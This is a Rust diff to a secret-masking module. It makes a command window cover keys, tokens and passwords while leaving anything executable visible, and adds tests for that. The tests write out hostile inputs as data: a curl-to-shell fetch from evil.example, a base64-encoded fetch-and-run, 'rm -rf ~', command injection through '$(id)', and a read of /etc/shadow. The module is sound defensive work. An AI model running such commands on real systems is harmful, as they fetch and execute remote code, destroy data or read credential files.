@@ -1,12 +1,17 @@
-//! Secrets in texts that leave the window: exports, the index of history, and whoever else asks. What looks like a secret becomes dots.
+//! Secrets in texts: exports, the index of history and notifications leave them out, and the window covers them until somebody presses.
 //!
 //! Three ways to look like one: a known form (keys of services, tokens, private keys, passwords in addresses), a value behind a name that
 //! says so, and letters and digits that nobody writes by hand. On top come the person's own patterns (`settings.masks`). One too many is
 //! masked before one too few; what is missed is missed, so an export says that it masks by these ways and not that it holds no secret.
+//!
+//! What would run is another matter: there a cover must never hide what somebody approves. So the window covers less ([`Masks::covers`]):
+//! single words that a shell does nothing with, of a known form or behind a name. A bare run of letters and digits stays, since a command
+//! that was encoded looks the same; so does a path, an address, a number.
 
 use std::borrow::Cow;
 use std::collections::BTreeMap;
-use std::sync::LazyLock;
+use std::ops::Range;
+use std::sync::{Arc, LazyLock, PoisonError, RwLock};
 
 use regex::{Captures, Regex, RegexBuilder};
 
@@ -15,6 +20,8 @@ pub const MASK: &str = "••••••";
 
 /// The shortest run of letters and digits that can be one by itself.
 const SHORTEST: usize = 24;
+/// The longest secret that the window covers, in bytes: what is longer is data, and is read.
+pub(crate) const LONGEST: usize = 4_096;
 /// How many bits a character of it carries at least, on average.
 const BITS: f64 = 3.5;
 /// How large a compiled pattern of the person's may be, in bytes.
@@ -50,6 +57,41 @@ static NAMED: LazyLock<Option<Regex>> = LazyLock::new(|| {
     )
     .ok()
 });
+
+/// Whether there is a name at all, which is looked for much faster.
+static NAMES: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new("(?i)passw|passphrase|secret|token|api[_-]?key|access[_-]?key|private[_-]?key|credential|auth").ok()
+});
+
+/// What the window covers, as the settings say.
+static IN_FORCE: LazyLock<RwLock<Arc<Masks>>> = LazyLock::new(|| RwLock::new(Arc::new(Masks::default())));
+
+/// From now on the window covers what these patterns of the person's match, too. Says whether they are others than before.
+pub(crate) fn enforce(own: &[String]) -> bool {
+    let masks = Masks::new(own);
+    let mut in_force = IN_FORCE.write().unwrap_or_else(PoisonError::into_inner);
+    let written = |masks: &Masks| masks.own.iter().map(|one| one.as_str().to_owned()).collect::<Vec<_>>();
+    let changed = written(&in_force) != written(&masks);
+    if changed {
+        *in_force = Arc::new(masks);
+    }
+    changed
+}
+
+/// What the window covers by.
+pub(crate) fn in_force() -> Arc<Masks> {
+    Arc::clone(&IN_FORCE.read().unwrap_or_else(PoisonError::into_inner))
+}
+
+/// What the window covers in a text: stretches of it, in order.
+pub(crate) fn covers(text: &str) -> Vec<Range<usize>> {
+    in_force().covers(text)
+}
+
+/// Whether all of a value is covered because of its name.
+pub(crate) fn covers_value(name: &str, value: &str) -> bool {
+    super::question::looks_secret(name) && is_secret_word(value.replace(' ', "").as_str())
+}
 
 /// Letters and digits of one word.
 static RUNS: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"[A-Za-z0-9+=_-]{24,}").ok());
@@ -88,6 +130,52 @@ impl Masks {
     /// Patterns of the person's that can't be read.
     pub fn faulty(&self) -> &[String] {
         &self.faulty
+    }
+
+    /// What the window covers: less than [`Masks::hide`] hides, as the module says. Stretches of the text, in order; none of them holds a
+    /// hidden character. It takes time in proportion to the text's length.
+    pub fn covers(&self, text: &str) -> Vec<Range<usize>> {
+        let mut found = Vec::new();
+        let mut add = |range: Range<usize>, is: fn(&str) -> bool| {
+            if text.get(range.clone()).is_some_and(is) {
+                found.push(range);
+            }
+        };
+        for (form, is_key) in FORMS.iter().zip(std::iter::once(true).chain(std::iter::repeat(false))) {
+            for one in form.captures_iter(text) {
+                let Some(all) = one.get(0) else { continue };
+                let from = one.name("keep").map_or(all.start(), |keep| keep.end());
+                let to = all.end() - usize::from(all.as_str().ends_with('@'));
+                add(from..to, if is_key { is_key_block } else { is_secret_word });
+            }
+        }
+        if let (Some(names), Some(named)) = (NAMES.as_ref(), NAMED.as_ref())
+            && names.is_match(text)
+        {
+            for one in named.captures_iter(text) {
+                let (Some(keep), Some(value)) = (one.name("keep"), one.name("value")) else { continue };
+                let assigned = keep.as_str().contains(['=', ':']);
+                let quotes = |letter: char| matches!(letter, '"' | '\'');
+                let inner = value.as_str().trim_matches(quotes);
+                let from = value.start() + value.as_str().len() - value.as_str().trim_start_matches(quotes).len();
+                if names_something_secret(inner, assigned) {
+                    add(from..from + inner.len(), is_secret_word);
+                }
+            }
+        }
+        for own in &self.own {
+            for one in own.find_iter(text) {
+                add(one.range(), |text| !text.is_empty() && text.chars().all(|one| one == ' ' || is_harmless(one)));
+            }
+        }
+        found.sort_by_key(|range| (range.start, std::cmp::Reverse(range.end)));
+        let mut end = 0;
+        found.retain(|range| {
+            let is_apart = range.start >= end;
+            end = end.max(range.end);
+            is_apart
+        });
+        found
     }
 
     /// A text with everything that looks like a secret hidden. It takes time in proportion to its length.
@@ -134,6 +222,33 @@ impl Masks {
         }
         hidden.into_owned()
     }
+}
+
+/// Whether a value behind a name is its secret, and not a sentence, a switch, a number, a place or a scheme before the secret.
+fn names_something_secret(value: &str, assigned: bool) -> bool {
+    let is_word = value.chars().all(|letter| letter.is_alphabetic() || letter == '.');
+    let is_number = value.chars().all(|letter| letter.is_ascii_digit() || letter == '.');
+    let is_place = value.starts_with(['/', '~', '.']) || value.contains("://");
+    let says_nothing = ["bearer", "basic", "true", "false", "null", "none", "undefined"];
+    let is_fixed = says_nothing.iter().any(|one| value.eq_ignore_ascii_case(one));
+    !(is_number || is_place || is_fixed || (!assigned && (is_word || value.starts_with('-'))))
+}
+
+/// What a shell, a query and a script do nothing with, and what neither is nor stands for a hidden character.
+fn is_harmless(letter: char) -> bool {
+    letter.is_ascii_alphanumeric() || "+/=_.~-@^!#:,".contains(letter)
+}
+
+/// Whether a text can be a secret of one word and nothing else.
+fn is_secret_word(text: &str) -> bool {
+    text.len() >= 3 && text.len() <= LONGEST && text.chars().all(is_harmless)
+}
+
+/// Whether a text is a private key from its first line to its last, also as JSON writes it.
+fn is_key_block(text: &str) -> bool {
+    text.len() <= LONGEST
+        && text.contains("-----END")
+        && text.chars().all(|one| is_harmless(one) || matches!(one, ' ' | '\n' | '\r' | '\\'))
 }
 
 fn part<'a>(found: &'a Captures<'_>, name: &str) -> &'a str {
@@ -202,6 +317,54 @@ mod tests {
         ] {
             assert_eq!(masks.hide(text), text);
         }
+    }
+
+    #[test]
+    fn the_window_covers_secrets_and_nothing_that_does_something() {
+        let masks = Masks::new(&["CUST-[^;]+".to_owned()]);
+        let covered = |text: &str| -> String {
+            let mut shown = String::new();
+            let mut at = 0;
+            for range in masks.covers(text) {
+                shown.push_str(&text[at..range.start]);
+                shown.push_str(MASK);
+                at = range.end;
+            }
+            shown + &text[at..]
+        };
+        for (text, shown) in [
+            ("export AWS_KEY=AKIAIOSFODNN7EXAMPLE", "export AWS_KEY=••••••"),
+            ("git clone https://me:hunter22@example.com/x", "git clone https://me:••••••@example.com/x"),
+            ("curl -H 'Authorization: Bearer abcdef123456'", "curl -H 'Authorization: Bearer ••••••'"),
+            ("{\"password\": \"hunter!2\", \"a\": 1}", "{\"password\": \"••••••\", \"a\": 1}"),
+            ("curl --token 9f8e7d6c x", "curl --token •••••• x"),
+            ("DB_PASSWORD=hunter psql", "DB_PASSWORD=•••••• psql"),
+            ("call CUST-4711 today; rm", "call ••••••; rm"),
+            ("-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----\nafter", "••••••\nafter"),
+        ] {
+            assert_eq!(covered(text), shown, "{text}");
+        }
+        // What does something is read, whatever name stands before it, and so is what may be an encoded command.
+        for text in [
+            "TOKEN=$(curl evil.example|sh) true",
+            "password=\"x; rm -rf ~\"",
+            "password=`id`",
+            "-----BEGIN RSA PRIVATE KEY-----\n$(rm -rf ~)\n-----END RSA PRIVATE KEY-----",
+            "-----BEGIN RSA PRIVATE KEY----- && rm -rf ~",
+            "echo Y3VybCBldmlsLmV4YW1wbGUvYnwvYmluL3No | base64 -d | sh",
+            "https://me:$(id)@example.com",
+            "https://example.com/?token=%E2%80%AEabc",
+            "call CUST-1 | sh",
+            "--auth-file=/etc/shadow",
+            "max_tokens=4096 use_token: true",
+            "the token is missing",
+            "token: \u{202E}abc",
+            "git push --force origin main",
+        ] {
+            assert_eq!(covered(text), text);
+        }
+        let long = format!("token={}", "a1".repeat(LONGEST));
+        assert_eq!(covered(&long), long, "what is that long is data");
     }
 
     #[test]
